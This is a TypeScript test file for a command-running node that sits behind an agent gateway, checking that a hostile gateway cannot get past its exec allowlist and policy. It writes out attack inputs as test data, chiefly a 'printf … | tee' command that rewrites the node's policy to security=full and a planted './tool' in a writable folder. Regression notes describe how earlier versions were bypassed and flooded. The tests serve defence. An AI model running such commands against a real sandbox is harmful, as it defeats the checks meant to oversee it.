
describe("a program named by its path on the node's allowlist, where the sandbox can write it", () => {
  /** A node whose allowlist names `./tool` and `<dir>/tool`; `dir`, holding a tool of the sandbox's making, read-write or read-only. */
  async function plantedTool(access: 'readwrite' | 'readonly') {
    const dir = tempDir('corral-hostile-project-');
    writeFileSync(join(dir, 'tool'), '#!/bin/sh\nprintf planted\n');
    chmodSync(join(dir, 'tool'), 0o755);
    const stateDir = stateWithPolicy(allowlistOf('./tool', join(dir, 'tool')));
    const policy = { version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { [access]: [dir] } };
    return { dir, gw: await hostileGateway(containedBy(stateDir, policy)) };
  }

  it('is refused, relative (./tool in a working directory of the caller\'s choosing) or absolute (regression: an allowlist of ./tool ran whatever the sandbox had written as tool in a read-write folder it then named as its cwd)', async () => {
    const { dir, gw } = await plantedTool('readwrite');
    try {
      for (const command of [['./tool'], [join(dir, 'tool')], ['/bin/sh', '-c', './tool']]) {
        const answer = await gw.invoke('system.run', { command, cwd: dir });
        assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', `${command.join(' ')}: ${answer.payloadJSON}`);
        assert.match(answer.error!.message, /the sandbox can write/);
      }
    } finally {
      await gw.close();
    }
  });

  it('runs where the sandbox cannot write it', async () => {
    const { dir, gw } = await plantedTool('readonly');
    try {
      for (const command of [['./tool'], [join(dir, 'tool')]]) {
        const answer = await gw.invoke('system.run', { command, cwd: dir });
        assert.equal(answer.ok, true, `${command.join(' ')}: ${answer.error?.message}`);
        assert.equal(stdoutOf(answer), 'planted');
      }
    } finally {
      await gw.close();
    }
  });
});

describe("git NAME on the node's allowlist, for a NAME that is not git's own", () => {
  it('is refused unless the allowlist names git-NAME too: git runs git-NAME from the PATH before it looks for an alias (regression: an allowlist of git ran any git-NAME program)', async () => {
    const stateDir = stateWithPolicy(allowlistOf('git'));
    const gw = await hostileGateway(containedBy(stateDir, { version: 1, runtime: ['shell'], network: { egress: 'none' } }));
    try {
      const answer = await gw.invoke('system.run', { command: ['git', 'hi'] });
      assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED', answer.payloadJSON);
      assert.match(answer.error!.message, /git-hi/);
    } finally {
      await gw.close();
    }
  });
});

describe('a run whose gateway connection closes while it runs', () => {
  it("is stopped, as when the gateway cancels it: its result can no longer reach anyone, and the gateway has told its caller it failed (regression: it ran on to its end, so a caller that tried again ran it twice)", async () => {
    const runner = new UntilStoppedRunner();
    const gw = await hostileGateway({ runner });
    try {
      void gw.invoke('system.run', { command: ['sleep', '600'] }, 600_000);
      await runner.began.promise;
      gw.drop();
      const stopped = await runner.stoppedInTime();
      assert.equal(stopped, true, 'the run was still going 10 s after its gateway connection closed');
    } finally {
      runner.finish();
      await gw.close();
      await runner.close();
    }
  });
});

describe('a request whose id is that of one the node is still serving for the same gateway', () => {
  it('is neither run nor answered: the one answer under that id is the first request\'s, and a cancel of that id stops the first (regression: it ran as well, both were answered under one id, and the first could no longer be cancelled)', async () => {
    const runner = new UntilStoppedRunner();
    const gw = await hostileGateway({ runner });
    try {
      const id = randomUUID();
      const first = gw.invoke('system.run', { command: ['printf', 'first'] }, 600_000, id);
      await runner.began.promise;
      gw.send('node.invoke.request', { id, nodeId: gw.host.device.deviceId, command: 'system.run', paramsJSON: JSON.stringify({ command: ['printf', 'second'] }) });
      // Handled in order: once a later request is answered, the second has been served as far as it ever would be.
      assert.equal((await gw.invoke('system.which', { bins: ['sh'] })).ok, true);
      assert.deepEqual(runner.ran, [['printf', 'first']]);
      gw.send('node.invoke.cancel', { invokeId: id, nodeId: gw.host.device.deviceId });
      const stopped = await runner.stoppedInTime();
      assert.equal(stopped, true, 'the cancel did not reach the first run');
      const answer = await first;
      assert.equal(JSON.parse(answer.payloadJSON ?? '{}').error, 'cancelled: the caller left', JSON.stringify(answer));
      assert.equal((await gw.invoke('system.which', { bins: ['sh'] })).ok, true);
      assert.equal(gw.answered(id), 1);
    } finally {
      runner.finish();
      await gw.close();
      await runner.close();
    }
  });
});

/** A runner that fails as a file the node cannot use fails: with the file system's error, naming a path of the node's machine. */
class UnusableFileRunner extends Runner {
  readonly path: string;
  constructor(path: string) {
    super();
    this.path = path;
  }
  override async run(): Promise<RunResult & { stdout: string; stderr: string }> {
    throw Object.assign(new Error(`EACCES: permission denied, open '${this.path}'`), { code: 'EACCES', path: this.path });
  }
}

describe('a request that fails for a reason of the node\'s own', () => {
  it('answers the gateway NODE_INTERNAL with none of the error\'s words, and gives the node\'s log the error (regression: the gateway got the raw message, a path of the node\'s machine in it)', async () => {
    const secret = join(tempDir('corral-hostile-secret-'), 'private-project', 'key.pem');
    const runner = new UnusableFileRunner(secret);
    const failures: { id: string; command: string; error: { code: string; cause?: unknown } }[] = [];
    const gw = await hostileGateway({ runner, onFailure: (failure) => failures.push(failure) });
    try {
      const answer = await gw.invoke('system.run', { command: ['printf', 'x'] }, undefined, 'run-1');
      assert.equal(answer.ok, false);
      assert.equal(answer.error?.code, 'UNAVAILABLE');
      assert.match(answer.error!.message, /^NODE_INTERNAL\b/);
      assert.ok(!answer.error!.message.includes('private-project') && !answer.error!.message.includes('EACCES'), answer.error!.message);
      assert.equal(failures.length, 1);
      assert.deepEqual([failures[0]!.id, failures[0]!.command, failures[0]!.error.code], ['run-1', 'system.run', 'NODE_INTERNAL']);
      assert.equal((failures[0]!.error.cause as Error).message.includes(secret), true, 'the log lost the detail');
    } finally {
      await gw.close();
      await runner.close();
    }
  });

  it("refuses a run, and a prepare, while the node's policy file is damaged as NODE_INTERNAL: the gateway never learns where the node keeps its state, the node's log does (regression: the caller was told INVALID_REQUEST with the file's path)", async () => {
    const stateDir = join(tempDir('corral-hostile-secret-'), 'private-project');
    const ran: string[][] = [];
    const failures: { command: string; error: { code: string; cause?: unknown } }[] = [];
    const gw = await hostileGateway({ stateDir, runner: new RecordingRunner(ran), onFailure: (failure) => failures.push(failure) });
    try {
      writeFileSync(join(stateDir, LOCAL_POLICY_FILE), '{ "version": 1, "defaults": ');
      for (const command of ['system.run', 'system.run.prepare']) {
        const answer = await gw.invoke(command, { command: ['printf', 'x'] });
        assert.equal(answer.error?.code, 'UNAVAILABLE', command);
        assert.match(answer.error!.message, /^NODE_INTERNAL\b/);
        assert.ok(!answer.error!.message.includes('private-project'), answer.error!.message);
      }
      assert.deepEqual(ran, []);
      assert.deepEqual(failures.map((f) => [f.command, f.error.code]), [['system.run', 'NODE_INTERNAL'], ['system.run.prepare', 'NODE_INTERNAL']]);
      assert.match((failures[0]!.error.cause as Error).message, /private-project.*is not JSON/);
    } finally {
      await gw.close();
    }
  });

  it('writes the error on stderr when no one else is told of it, as one printable line', async () => {
    const secret = join(tempDir('corral-hostile-secret-'), 'private-project', 'key.pem');
    const runner = new UnusableFileRunner(secret);
    const gw = await hostileGateway({ runner });
    const lines: string[] = [];
    const write = mock.method(process.stderr, 'write', (chunk: unknown) => {
      lines.push(String(chunk));
      return true;
    });
    try {
      const answer = await gw.invoke('system.run', { command: ['printf', 'x'] }, undefined, 'run\u001b[2J-2');
      assert.match(answer.error?.message ?? '', /^NODE_INTERNAL\b/);
      const line = lines.find((l) => l.includes('NODE_INTERNAL')) ?? '';
      assert.ok(line.includes(secret) && line.includes('EACCES'), JSON.stringify(lines));
      assert.ok(!line.includes('\u001b') && line.indexOf('\n') === line.length - 1, JSON.stringify(line));
    } finally {
      write.mock.restore();
      await gw.close();
      await runner.close();
    }
  });
});

describe('a system.execApprovals.set that changes nothing', () => {
  it('is answered with the policy and its hash as they were, and writes nothing, however often it comes (regression: each one rewrote and flushed the policy file)', async () => {
    const policy = allowlistOf('echo');
    const stateDir = stateWithPolicy(policy);
    const file = join(stateDir, LOCAL_POLICY_FILE);
    const before = statSync(file);
    const gw = await hostileGateway({ stateDir });
    try {
      const got = JSON.parse((await gw.invoke('system.execApprovals.get', {})).payloadJSON!) as { hash: string };
      for (let i = 0; i < 5; i++) {
        const set = await gw.invoke('system.execApprovals.set', { file: policy, baseHash: got.hash });
        assert.equal(set.ok, true, set.error?.message);
        assert.deepEqual(JSON.parse(set.payloadJSON!), JSON.parse((await gw.invoke('system.execApprovals.get', {})).payloadJSON!));
        assert.equal((JSON.parse(set.payloadJSON!) as { hash: string }).hash, got.hash);
      }
      const after = statSync(file);
      assert.deepEqual([after.ino, after.mtimeMs], [before.ino, before.mtimeMs], 'the policy file was written');
    } finally {
      await gw.close();
    }
  });
});

describe("a node policy that is a link to a policy kept in a folder the agent's container policy grants read-write", () => {
  it("refuses every run, before it runs anything: a run could rewrite the node's own gate (regression: printf … | tee rewrote the managed policy to security=full, and the next run, off the allowlist, ran)", async () => {
    const stateDir = tempDir('corral-hostile-node-');
    const managed = tempDir('corral-hostile-managed-');
    writeFileSync(join(managed, LOCAL_POLICY_FILE), JSON.stringify(allowlistOf('printf', 'tee')), { mode: 0o600 });
    symlinkSync(join(managed, LOCAL_POLICY_FILE), join(stateDir, LOCAL_POLICY_FILE));
    const policy = { version: 1, runtime: ['shell'], network: { egress: 'none' }, filesystem: { readwrite: [managed] } };
    const gw = await hostileGateway(containedBy(stateDir, policy));
    try {
      const rewrite = await gw.invoke('system.run', { command: ['/bin/sh', '-c', `printf '{"version":1,"defaults":{"security":"full"}}' | tee ${join(managed, LOCAL_POLICY_FILE)}`] });
      assert.equal(rewrite.error?.code, 'SYSTEM_RUN_DENIED', rewrite.payloadJSON);
      assert.match(rewrite.error!.message, /\[NODE_CONTAINMENT_UNAVAILABLE\]$/);
      assert.ok(!rewrite.error!.message.includes(stateDir), rewrite.error!.message);
      assert.equal(gw.host.policy.current.defaults.security, 'allowlist', 'the node policy was rewritten');
      assert.equal((await gw.invoke('system.run', { command: ['id', '-u'] })).error?.code, 'SYSTEM_RUN_DENIED');
    } finally {
      await gw.close();
    }
  });
});

describe('a system.execApprovals.set larger than any policy the node writes', () => {
  it(`is refused unread as INVALID_REQUEST, whatever it holds (regression: a change of 30 MB, as a frame may be, was read and checked whole, holding the node for seconds and a gigabyte of memory)`, async () => {
    const stateDir = stateWithPolicy({ version: 1, defaults: { security: 'full' } });
    const gw = await hostileGateway({ stateDir });
    try {
      const { hash } = JSON.parse((await gw.invoke('system.execApprovals.get', {})).payloadJSON!) as { hash: string };
      // Upstream's bookkeeping on an entry is read and left out: only its size says this change is too large to read.
      const bloated = { version: 1, defaults: { security: 'allowlist' }, agents: { '*': { allowlist: [{ pattern: 'echo', lastUsedCommand: 'x'.repeat(MAX_LOCAL_POLICY_BYTES) }] } } };
      const answer = await gw.invoke('system.execApprovals.set', { file: bloated, baseHash: hash });
      assert.equal(answer.ok, false);
      assert.equal(answer.error?.code, 'INVALID_REQUEST');
      assert.equal(JSON.parse((await gw.invoke('system.execApprovals.get', {})).payloadJSON!).hash, hash, 'the change was written');
    } finally {
      await gw.close();
    }
  });
});

describe('system.execApprovals.set changes from a gateway that sends them without end', () => {
  it('are refused as UNAVAILABLE beyond those the node writes at once (REMOTE_WRITES_BURST)', async () => {
    const stateDir = stateWithPolicy({ version: 1, defaults: { security: 'full' } });
    const gw = await hostileGateway({ stateDir });
    try {
      const answers: Answer[] = [];
      for (let i = 0; i <= REMOTE_WRITES_BURST; i++) {
        const { hash } = JSON.parse((await gw.invoke('system.execApprovals.get', {})).payloadJSON!) as { hash: string };
        answers.push(await gw.invoke('system.execApprovals.set', { file: { version: 1, defaults: { security: 'full' }, agents: { '*': { allowlist: [{ pattern: i % 2 === 0 ? 'a' : 'b' }] } } }, baseHash: hash }));
      }
      assert.deepEqual(answers.map((a) => a.ok), [...Array(REMOTE_WRITES_BURST).fill(true), false]);
      assert.equal(answers.at(-1)!.error?.code, 'UNAVAILABLE');
      assert.match(answers.at(-1)!.error!.message, /too often/);
    } finally {
      await gw.close();
    }
  });
});

describe('a gateway that sends request after request and never reads the answers', () => {
  it(`has its connection closed once ${MAX_UNACKNOWLEDGED_ANSWERS} answers wait unacknowledged, and the rest are never answered (regression: every answer waited in the send buffer, the node's memory growing by what the gateway sent, 3.9 GB in 15 s)`, async () => {
    const statuses: NodeStatus[] = [];
    const gw = await hostileGateway({ onStatus: (status) => statuses.push(status), maxBackoffMs: 60_000 });
    try {
      const asked = await gw.invoke('system.which', { bins: ['sh'] });
      assert.equal(asked.ok, true, 'a gateway that reads its answers is answered');
      gw.stopReading();
      for (let i = 0; i < MAX_UNACKNOWLEDGED_ANSWERS + 50; i++) gw.send('node.invoke.request', { id: randomUUID(), nodeId: gw.host.device.deviceId, command: 'system.which', paramsJSON: JSON.stringify({ bins: ['sh'] }) });
      for (let i = 0; i < 500 && !statuses.some((s) => s.state === 'disconnected'); i++) await new Promise((r) => setTimeout(r, 20));
      assert.ok(statuses.some((s) => s.state === 'disconnected'), 'the node closed the connection whose gateway reads nothing');
    } finally {
      await gw.close();
    }
  });

  it(`keeps serving a gateway that reads and acknowledges its answers, however many it asks for in all (${MAX_UNACKNOWLEDGED_ANSWERS * 2})`, async () => {
    const statuses: NodeStatus[] = [];
    const gw = await hostileGateway({ onStatus: (status) => statuses.push(status) });
    try {
      for (let sent = 0; sent < MAX_UNACKNOWLEDGED_ANSWERS * 2; sent += 256) {
        const answers = await Promise.all(Array.from({ length: 256 }, () => gw.invoke('system.which', { bins: ['sh'] })));
        assert.ok(answers.every((a) => a.ok));
      }
      assert.equal(statuses.filter((s) => s.state === 'disconnected').length, 0);
    } finally {
      await gw.close();
    }
  });
});

describe('a run held for its release that the node refuses at once', () => {
  it('leaves nothing waiting for that release once it is answered, however long the gateway said it may take (regression: each refused run left a timer and its entry for up to a day, so a flood of them grew the node without bound)', async () => {
    const gw = await hostileGateway({ stateDir: stateWithPolicy({ version: 1, defaults: { security: 'deny' } }) });
    try {
      const timers = () => process.getActiveResourcesInfo().filter((r) => r === 'Timeout').length;
      const before = timers();
      for (let i = 0; i < 200; i++) {
        const answer = await gw.invoke('system.run', { command: ['printf', 'x'], awaitRelease: true }, 86_400_000);
        assert.equal(answer.error?.code, 'SYSTEM_RUN_DENIED');
      }
      assert.ok(timers() - before < 20, `${timers() - before} timers were left behind by 200 refused runs`);
    } finally {
      await gw.close();
    }
  });
});
